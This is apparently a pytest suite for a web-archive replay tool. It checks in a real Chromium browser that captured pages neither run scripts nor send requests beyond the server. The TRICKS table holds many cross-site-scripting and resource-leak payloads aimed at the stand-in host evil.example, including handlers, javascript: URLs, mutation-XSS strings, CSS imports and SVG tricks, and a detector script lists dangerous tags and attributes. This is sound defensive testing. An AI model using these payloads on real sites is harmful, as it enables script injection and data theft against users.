# ruff: noqa: E501 - markup reads best unbroken
"""Hostile captures in a real browser, its JavaScript on: no request beyond the server, and no script has any effect."""

from __future__ import annotations

import base64
import html
import random
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from browser import Chromium
from factories import make_capture, make_collection, make_exchange
from playwright.sync_api import Page, Route
from replaying import Server, served
from test_rewriting import PIECES

from scraper.replay.rewriting import Place, page

TIMESTAMP = "20260504030201"
BASE = "https://hostile.example/a/"
PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
EVIL = "https://evil.example/"
RUN = "document.title='ran';window.ran=1;alert(1);fetch('https://evil.example/js')"
TRICKS = {
    "script": f"<script>{RUN}</script><script src={EVIL}s.js></script><svg><script>{RUN}</script><script href={EVIL}x /></svg>",
    "module": f"<script type=module>import '{EVIL}m.js'</script><link rel=modulepreload href={EVIL}m.js>",
    "handlers": f'<img src=x onerror="{RUN}"><svg onload="{RUN}"></svg><p tabindex=0 autofocus onfocus="{RUN}">'
    f'<details open ontoggle="{RUN}"></details><style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{RUN}">',
    "schemes": f'<a id=j href=" java&#10;script:{RUN}">x</a><iframe src="javascript:{html.escape(RUN)}"></iframe>'
    f'<iframe src="data:text/html,<script>top.ran=1</script>"></iframe><meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "base": f"<base href={EVIL}><img src=b.png><a id=j href=b.html>x</a>",
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}refresh">',
    "policy": f'<meta http-equiv=Content-Security-Policy content="img-src *; report-uri {EVIL}csp"><img src=//evil.example/p>',
    "srcdoc": f"<iframe srcdoc='<script>top.ran=1</script><img src={EVIL}srcdoc onerror=\"{RUN}\">'></iframe>",
    "objects": f"<object data={EVIL}o><param name=src value={EVIL}p></object><embed src={EVIL}e><applet archive={EVIL}a></applet>",
    "forms": f"<form id=f action={EVIL}form><button id=j formaction={EVIL}button>x</button><input name=a autofocus></form>",
    "hints": "".join(
        f'<link rel="{rel}" href="{EVIL}{rel}" as=image>'
        for rel in ("prefetch", "preconnect", "dns-prefetch", "preload", "prerender", "manifest", "icon", "stylesheet", "next search")
    ),
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}spec"]}}]}}</script>',
    "styles": f"<style>@import '{EVIL}i.css';@import url({EVIL}j.css);p{{background:\\75 rl({EVIL}esc)}}"
    f"b{{background:image-set('{EVIL}set' 1x)}}:root{{--u:'{EVIL}var'}}i{{background:image-set(var(--u) 1x)}}"
    f"@font-face{{font-family:f;src:url({EVIL}font)}}</style><p style='font-family:f;list-style:url({EVIL}li)'>x<b>y</b><i>z</i></p>",
    "svg": f'<svg><style>rect{{fill:u&#114;l({EVIL}ent)}}</style><image href={EVIL}si xlink:href={EVIL}sx /><use href="{EVIL}u#x"/>'
    f'<rect fill="url({EVIL}paint#x)" filter="url({EVIL}filter#x)"/><feImage href={EVIL}fe /><foreignObject><img src={EVIL}fo>'
    f'</foreignObject><a id=j href="javascript:{RUN}"><text y=20>x</text><animate attributeName=href to="javascript:{RUN}"/></a></svg>',
    "media": f"<video autoplay src={EVIL}v poster={EVIL}po><track default src={EVIL}t></video><audio autoplay src={EVIL}au></audio>"
    f"<picture><source srcset='{EVIL}ss 1x'><img src={EVIL}im srcset='{EVIL}a 1x, //evil.example/b 2x'></picture>"
    f"<input type=image src={EVIL}in><table background={EVIL}bg><td background=//evil.example/td>x</table><image src={EVIL}image>",
    "shadow": f'<div><template shadowrootmode=open><style>@import "{EVIL}shadow.css"</style><img src={EVIL}sh onerror="{RUN}">'
    "</template></div>",
    "comments": f"<!--[if gte IE 1]><img src={EVIL}ie><![endif]--><!--><img src={EVIL}c1 onerror='{RUN}'>--><![CDATA[<img src={EVIL}cd>]]>",
    "mutation": f'<svg></p><style><a id="</style><img src={EVIL}m1 onerror={RUN.replace(" ", "")}>">'
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={EVIL}m2 onerror=alert(1)&gt;">'
    f'<noscript><p title="</noscript><img src={EVIL}m3 onerror=alert(1)>"><textarea><a title="</textarea><img src={EVIL}m4 onerror=alert(1)>">'
    f"<svg><p><style/>*{{background:url({EVIL}m5)}}</style><svg><title><a title='</title><img src={EVIL}m6>'>",
    "unclosed": f"<img src={EVIL}1><style>p{{background:url({EVIL}2",
    "pings": f'<a id=j href=next.html ping={EVIL}ping attributionsrc={EVIL}attr target=_blank>x</a><img attributionsrc={EVIL}ai src=x>',
    "frames": f"<iframe src={EVIL}f></iframe><iframe src=//evil.example/g loading=lazy></iframe><portal src={EVIL}p></portal>",
    "bodyless": f"<frameset onload='{RUN}'><frame src={EVIL}frame><frame src='javascript:{RUN}'></frameset>",
}  # fmt: skip
SHOWN = (
    "<!DOCTYPE html><html><head><base href=/a/><link rel=stylesheet href=s.css></head><body><h1>Shown</h1>"
    "<img id=picture srcset='p.png 1x' src=p.png><img id=lazy data-src=p.png><img id=missing src=gone.png width=60 height=40>"
    "<div id=painted>painted</div><a id=next href=next.html target=_blank>next</a></body></html>"
)
SHEET = "@import 'more.css'; h1{color:rgb(1,2,3)} #painted{background:url(p.png)}"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """`scraper replay` over an archive of hostile pages and of one that wants to be seen."""
    root = tmp_path_factory.mktemp("hostile") / "archive"
    pages = {f"{name}.html": f"<html><head><title>still</title></head><body>{trick}" for name, trick in TRICKS.items()}
    pages["bodyless.html"] = f"<html><head><title>still</title></head>{TRICKS['bodyless']}"
    resources = {"s.css": (SHEET, "text/css"), "more.css": ("h1{font-style:italic}", "text/css")}
    with closing(make_collection(root)) as collection:
        for name, markup in {**pages, "shown.html": SHOWN, "next.html": "<title>next</title>arrived"}.items():
            collection.append(make_capture(make_exchange(BASE + name, markup.encode())))
        for name, (text, media_type) in resources.items():
            exchange = make_exchange(BASE + name, text.encode(), headers=(("Content-Type", media_type),))
            collection.append(make_capture(exchange))
        exchange = make_exchange(BASE + "p.png", PICTURE, headers=(("Content-Type", "image/png"),))
        collection.append(make_capture(exchange))
    with served(root) as started:
        yield started


def address(name: str) -> str:
    return f"/main/{TIMESTAMP}/{BASE}{name}"


class Watch:
    """What a browser's page does that a reader would not have asked for."""

    def __init__(self, shown: Page) -> None:
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        shown.on("request", lambda request: self.asked.append(request.url))
        shown.context.on("page", lambda popup: self.asked.append(f"popup {popup.url}"))
        shown.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def beyond(self, own: str) -> list[str]:
        return [url for url in self.asked if not url.startswith((own, "data:"))]


@pytest.mark.parametrize("name", TRICKS)
def test_a_hostile_capture_asks_nothing_of_the_web_and_runs_nothing(
    name: str, server: Server, browser: Chromium
) -> None:
    with browser.page(java_script_enabled=True) as shown:
        watch = Watch(shown)
        shown.goto(server.base + address(f"{name}.html"))
        if name != "bodyless" and shown.locator("#j").count():
            shown.locator("#j").first.dispatch_event("click")
        shown.wait_for_timeout(200)
        assert watch.beyond(server.base + "/") == []
        assert watch.dialogs == []
        assert shown.title() != "ran"
        assert shown.evaluate("[window.ran, top.ran]") == [None, None]
    assert browser.trap.caught == []


ORIGIN = "http://127.0.0.1:9/"  # never asked: the test answers in the browser itself
BEYOND = """() => { const bad = []; const look = root => { for (const e of root.querySelectorAll('*')) {
  if (['SCRIPT', 'OBJECT', 'EMBED', 'BASE', 'NOSCRIPT'].includes(e.tagName.toUpperCase())) bad.push(e.tagName);
  for (const a of e.attributes) if (/^on/i.test(a.name)) bad.push(a.name);
  for (const n of ['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href', 'cite', 'ping']) {
    const v = e.getAttribute(n); if (v === null || /^data:(image|text.css;charset=utf-8;base64,)/.test(v)) continue;
    let to; try { to = new URL(v, location.href).origin } catch { continue }
    if (to !== location.origin) bad.push(e.tagName + ' ' + n + ' ' + v); }
  if (e.content && e.content.querySelectorAll) look(e.content); if (e.shadowRoot) look(e.shadowRoot);
  if (e.tagName == 'IFRAME' && e.contentDocument) look(e.contentDocument); } }; look(document); return bad; }"""


def alone(shown: Page, markup: str) -> tuple[list[str], list[str], list[str]]:
    """Rewritten, and shown without any policy: requests elsewhere, dialogs, and what in the tree could do harm."""
    watch = Watch(shown)
    body = page(markup, Place("main", TIMESTAMP, BASE), "")

    def answer(route: Route) -> None:
        own = route.request.url == f"{ORIGIN}page"
        route.fulfill(status=200 if own else 404, content_type="text/html; charset=utf-8", body=body if own else "")

    shown.route("**/*", answer)
    shown.goto(f"{ORIGIN}page")
    harm = shown.evaluate(BEYOND)
    shown.wait_for_timeout(30)
    shown.unroute("**/*")
    return watch.beyond(ORIGIN), watch.dialogs, [str(item) for item in harm]


@pytest.mark.parametrize("name", [name for name in TRICKS if name != "refresh"])
def test_the_rewriting_holds_alone_without_any_policy_of_the_server(name: str, browser: Chromium) -> None:
    with browser.page(java_script_enabled=True) as shown:
        assert alone(shown, f"<html><head><title>still</title></head><body>{TRICKS[name]}") == ([], [], [])
        assert shown.title() != "ran"


def test_no_mixture_of_markup_gets_round_the_rewriting_in_the_browser_itself(browser: Chromium) -> None:
    chance = random.Random(20190909)  # the same mixtures every time
    with browser.page(java_script_enabled=True) as shown:
        for _ in range(60):
            markup = "\n".join("".join(chance.choices(PIECES, k=25)) for _ in range(20)).replace("<plaintext>", "")
            assert alone(shown, markup.replace("http-equiv=refresh", "")) == ([], [], []), markup


def test_a_page_is_shown_with_its_pictures_and_style_sheets(server: Server, browser: Chromium, tmp_path: Path) -> None:
    with browser.page(java_script_enabled=True) as shown:
        watch = Watch(shown)
        shown.goto(server.base + address("shown.html"), wait_until="networkidle")
        width = "id => document.getElementById(id).naturalWidth"
        assert [shown.evaluate(width, name) for name in ("picture", "lazy")] == [1, 1]
        assert shown.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
        assert shown.evaluate("getComputedStyle(document.querySelector('h1')).fontStyle") == "italic"
        assert "/p.png" in shown.evaluate("getComputedStyle(document.querySelector('#painted')).backgroundImage")
        assert shown.evaluate("document.compatMode") == "CSS1Compat"
        assert shown.evaluate(width, "missing") > 0  # a placeholder to see, not a hole
        shown.screenshot(path=tmp_path / "shown.png")
        assert watch.beyond(server.base + "/") == []
    assert browser.trap.caught == []


def test_a_link_leads_to_the_archived_copy(server: Server, browser: Chromium) -> None:
    with browser.page(java_script_enabled=True) as shown:
        shown.goto(server.base + address("shown.html"))
        shown.locator("#next").click()
        shown.wait_for_url(server.base + address("next.html"))
        assert "arrived" in shown.locator("body").inner_text()
